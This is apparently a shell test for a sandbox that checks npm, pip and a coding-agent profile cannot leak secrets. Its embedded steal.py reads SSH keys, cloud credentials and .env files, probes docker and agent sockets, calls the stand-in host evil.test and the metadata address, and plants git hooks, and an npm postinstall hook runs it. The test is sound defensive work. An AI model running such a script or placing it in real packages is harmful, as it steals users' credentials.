#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# runs as: root
# timeout: 300
# node, python and agent with the real npm and pip against registries of the test's own, which have the names of the real
# ones: what is installed works, what its scripts try is denied and in the report.
. "$TOP_SRCDIR/tests/lib/tap.sh"
for tool in pasta openssl curl git; do
	if ! have $tool; then
		skip "node, python and agent on a network" "$tool is not installed"
		finish
	fi
done
. "$TOP_SRCDIR/tests/lib/netlab.sh"

# ---- the outside: a name server, the registries, somebody who waits for what is stolen ----
cat > zone << 'ZONE'
registry.npmjs.org A 60 203.0.113.8
pypi.org A 60 203.0.113.8
files.pythonhosted.org A 60 203.0.113.8
evil.test A 60 198.51.100.7
registry.example.test A 60 203.0.113.8
ZONE
outside python3 "$TOP_SRCDIR/tests/lib/nameserver.py" 192.0.2.1 53 zone log &
await test -e log
printf 'nameserver 192.0.2.1\n' > "$T/resolv"
mount --bind "$T/resolv" /etc/resolv.conf
netlab_web outside 8000 STOLEN
netlab_web here 8001 HOST-SERVICE

# The machine's configuration, as an administrator writes it: npm's in $prefix/etc, with a certificate authority of its own.
mkdir "$T/over"
mount -t tmpfs none "$T/over"
mkdir "$T"/over/{usr,usr.work,etc,etc.work}
if ! mount -t overlay overlay -o "lowerdir=/usr,upperdir=$T/over/usr,workdir=$T/over/usr.work" /usr 2> /dev/null ||
	! mount -t overlay overlay -o "lowerdir=/etc,upperdir=$T/over/etc,workdir=$T/over/etc.work" /etc 2> /dev/null; then
	skip "node, python and agent on a network" "no overlay can be mounted over /usr and /etc here"
	finish
fi
mount --bind "$T/resolv" /etc/resolv.conf
mkdir -p ca /usr/etc /usr/local/share/lab
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=the lab" -keyout ca/key -out /usr/local/share/lab/ca.pem 2> /dev/null
openssl req -newkey rsa:2048 -nodes -subj "/CN=registry" -keyout key -out request 2> /dev/null
printf 'subjectAltName=DNS:registry.npmjs.org,DNS:pypi.org,DNS:files.pythonhosted.org,DNS:registry.example.test\n' > names
openssl x509 -req -days 2 -in request -CA /usr/local/share/lab/ca.pem -CAkey ca/key -CAcreateserial -extfile names -out certificate 2> /dev/null
chmod 644 /usr/local/share/lab/ca.pem
for file in /usr/etc/npmrc /etc/npmrc; do
	printf 'cafile=/usr/local/share/lab/ca.pem\naudit=false\nfund=false\nupdate-notifier=false\nfetch-retries=0\n' > $file
done
printf '[global]\ncert = /usr/local/share/lab/ca.pem\n' > /etc/pip.conf
served=$PWD/served
mkdir "$served"
outside python3 "$TOP_SRCDIR/tests/lib/registry.py" "$served" 443 certificate key &
await outside curl -s -o /dev/null -k https://203.0.113.8/

# ---- the user: keys, tokens, sockets, a project ----
home=$T/user
mkdir -p "$home"/{.ssh,.aws,.docker} "$home/project"
for file in .ssh/id_rsa .aws/credentials .docker/config.json .npmrc .bash_history .netrc; do
	echo "TOPSECRET $file" > "$home/$file"
done
echo '# mine' > "$home/.bashrc"
mount -t tmpfs none /run
python3 -c 'import socket, sys, time
held = []
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(); held.append(s)
time.sleep(1000)' /run/docker.sock "$home/agent.sock" &
await test -S "$home/agent.sock"
chmod 666 /run/docker.sock
git init -q "$home/project"
echo "PASSWORD=TOPSECRET" > "$home/project/.env"
echo "PASSWORD=" > "$home/project/.env.example"
chown -R "$netlab_uid:$netlab_uid" "$home"
chmod 700 "$home/.ssh"
cd "$home/project" || exit 1

run_in() { # CMD...: as the user, with an environment that names secrets and none of this machine's settings
	run user env -i HOME="$home" PATH=/usr/local/bin:/usr/bin:/bin USER=tester LANG=C.UTF-8 SSH_AUTH_SOCK="$home/agent.sock" \
		AWS_SECRET_ACCESS_KEY=TOPSECRET NPM_TOKEN=TOPSECRET timeout 120 "$@"
}

# What somebody's script tries, in a language that is there anyway.
cat > "$T/steal.py" << 'STEAL'
import os, socket, sys, urllib.request
home = os.path.expanduser("~")
def attempt(name, f):
    try:
        print("GOT", name, str(f())[:60])
    except OSError as e:
        print("denied", name, type(e).__name__)
def unix(path):
    s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(path); return "connected"
def tcp(host, port):
    s = socket.create_connection((host, port), 3); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); return s.recv(500)
for name in (".ssh/id_rsa", ".aws/credentials", ".docker/config.json", ".npmrc", ".bash_history", ".netrc"):
    attempt(name, lambda: open(os.path.join(home, name)).read())
attempt("env", lambda: open(".env").read())
attempt("docker", lambda: unix("/run/docker.sock"))
attempt("agent", lambda: unix(os.path.join(home, "agent.sock")))
attempt("name", lambda: urllib.request.urlopen("http://evil.test:8000/", timeout=3).read())
attempt("address", lambda: tcp("198.51.100.7", 8000))
attempt("metadata", lambda: tcp("169.254.169.254", 8000))
attempt("host", lambda: tcp("192.0.2.2", 8001))
attempt("loopback", lambda: tcp("127.0.0.1", 8001))
attempt("hook", lambda: open(".git/hooks/post-checkout", "w").write("#!/bin/sh\n"))
attempt("config", lambda: open(".git/config", "a").write("[core]\n\tfsmonitor = evil\n"))
attempt("variable", lambda: open("/nonexistent") if "TOPSECRET" not in "".join(os.environ.values()) else "set")
STEAL
attempts=$(grep -c '^attempt\|^for name' "$T/steal.py") # the loop is one line for six
attempts=$((attempts + 5))

nothing_got() { # DESC: of what the last run printed
	hasnt "$1: nothing was had" "$out" "GOT "
	is "$1: all was tried" "$(grep -c '^denied ' <<< "$out")" "$attempts"
	hasnt "$1: ... not a byte" "$out" TOPSECRET
}
reported() { # DESC TEXT...
	local what=$1 text
	shift
	for text; do
		has "$what: the report names $text" "$err" "$text"
	done
}
mkdir -p "$T/package"

# ---- node ----
if have npm && have node; then
	cat > "$T/package/package.json" << 'JSON'
{ "name": "sandbox-test-pkg", "version": "1.2.3", "main": "index.js", "scripts": { "postinstall": "python3 steal.py; exit 0" } }
JSON
	echo 'module.exports = "it works"' > "$T/package/index.js"
	cp "$T/steal.py" "$T/package/"
	tar -C "$T" -czf "$served/sandbox-test-pkg-1.2.3.tgz" package
	run_in "$SBOX" npm config get cafile
	is "node: npm's configuration of the machine is there" "$out" /usr/local/share/lab/ca.pem
	run_in "$SBOX" --report npm install --foreground-scripts sandbox-test-pkg
	is "node: npm installs a package from the registry, with the machine's own certificate authority" "$status" 0
	run_in "$SBOX" --profile=node node -p 'require("sandbox-test-pkg")'
	is "node: ... which works" "$out" "it works"
	rm -rf node_modules package-lock.json package.json
	run_in "$SBOX" --report npm install --foreground-scripts sandbox-test-pkg
	# In the package's directory .git/hooks is not the project's: those two are made, there, and say nothing.
	out=$(grep -v ' hook \| config ' <<< "$out")
	attempts=$((attempts - 2)) nothing_got "node: a postinstall script"
	reported "node" "$home/.ssh/id_rsa" "$home/.aws/credentials" evil.test 198.51.100.7:8000 169.254.169.254:8000 /run/docker.sock "$home/agent.sock"
	is "node: the project's lock file is the user's" "$(stat -c %u package-lock.json)" "$netlab_uid"
	check "node: the cache is kept" test -d "$home/.local/state/sbox/keep/node/.npm/_cacache"
	run_in "$SBOX" npm install other-package --registry=https://registry.example.test/
	refused "node: another registry is not reached"
	has "node: ... and the user is told which option would change that" "$err" "--set network.allow=registry.example.test"
	run_in "$SBOX" --set network.allow=registry.example.test:443 npm view sandbox-test-pkg version --registry=https://registry.example.test/
	is "node: ... which does" "$out" 1.2.3
else
	skip "node: npm installs a package" "npm is not installed"
fi

# ---- python ----
python=/usr/bin/python3
if $python -c 'import ensurepip' 2> /dev/null; then
	wheel=sandbox_test_pkg-1.0-py3-none-any.whl
	$python - "$T/$wheel" << 'END'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("sandbox_test_pkg.py", 'WORD = "it works"\n')
    z.writestr("sandbox_test_pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: sandbox-test-pkg\nVersion: 1.0\n")
    z.writestr("sandbox_test_pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("sandbox_test_pkg-1.0.dist-info/RECORD", "")
END
	cp "$T/$wheel" "$served/"
	run_in "$SBOX" --profile=python $python -m venv .venv
	is "python: a virtual environment is made" "$status" 0
	run_in "$SBOX" --profile=python .venv/bin/pip install --disable-pip-version-check sandbox-test-pkg
	is "python: pip installs into it from the index" "$status" 0
	run_in "$SBOX" --profile=python .venv/bin/python -c 'import sandbox_test_pkg; print(sandbox_test_pkg.WORD)'
	is "python: ... what works" "$out" "it works"
	cp "$T/steal.py" .
	run_in "$SBOX" --profile=python --report .venv/bin/python steal.py
	nothing_got "python: a package's code"
	reported "python" "$home/.ssh/id_rsa" evil.test 198.51.100.7:8000 "$home/project/.env" "$home/project/.git/hooks"
	run_in "$SBOX" --profile=python .venv/bin/pip install --retries 0 --index-url https://registry.example.test/simple/ other
	refused "python: another index is not reached"
else
	skip "python: pip installs a package" "python3-venv is not installed"
fi

# ---- agent ----
cp "$T/steal.py" .
chown "$netlab_uid" steal.py
cat > agent.sh << 'END'
# What a coding agent does: looks around, edits, builds, asks git.
set -e
printf 'all:\n\t@echo built\n' > Makefile
sed -i s/built/built-well/ Makefile
make
git status --short | grep -c Makefile
git add Makefile
git -c user.name=agent -c user.email=agent@example.org commit -q -m "a Makefile"
git log --format=%s
grep -c PASSWORD .env.example
echo remembered >> ~/.agent-memory
END
if have make; then
	run_in "$SBOX" --profile=agent sh agent.sh
	is "agent: edits, builds, commits" "$out" "built-well
1
a Makefile
1"
	run_in git log --format=%s
	is "agent: ... in the project itself" "$out" "a Makefile"
else
	skip "agent: edits, builds, commits" "make is not installed"
fi
run_in "$SBOX" --profile=agent sh -c 'echo more >> ~/.agent-memory; wc -l < ~/.agent-memory; ls -A ~/.ssh ~/Documents 2> /dev/null'
like "agent: it remembers in a home of its own" "$out" '^[12]$'
check "agent: ... which is not the user's" test ! -e "$home/.agent-memory"
run_in "$SBOX" --profile=agent --report python3 steal.py
nothing_got "agent"
reported "agent" "$home/.ssh/id_rsa" "$home/.aws/credentials" /run/docker.sock "$home/agent.sock" evil.test 198.51.100.7:8000 \
	169.254.169.254:8000 "$home/project/.env is masked" "$home/project/.git/hooks" "$home/project/.git/config"
run_in "$SBOX" --profile=agent --report sh -c 'echo evil >> ~/.bashrc'
refused "agent: ~/.bashrc is not written"
reported "agent" "$home/.bashrc"
is "agent: ... neither here nor there" "$(cat "$home/.bashrc")" "# mine"
run_in "$SBOX" --profile=agent sh -c 'mv .git x; rm -rf .git/hooks; ln -s / .git/hooks'
check "agent: .git is not replaced" test ! -e x -a -d .git/hooks -a ! -L .git/hooks
run_in "$SBOX" --profile=agent curl -sS -m 5 https://registry.npmjs.org/nothing --cacert /usr/local/share/lab/ca.pem -o /dev/null
is "agent: a registry is reached" "$status" 0
run_in "$SBOX" --profile=agent sh -c 'cat /proc/*/environ 2> /dev/null | tr "\0" "\n" | grep TOPSECRET'
is "agent: no secret in any environment" "$out" ""
finish
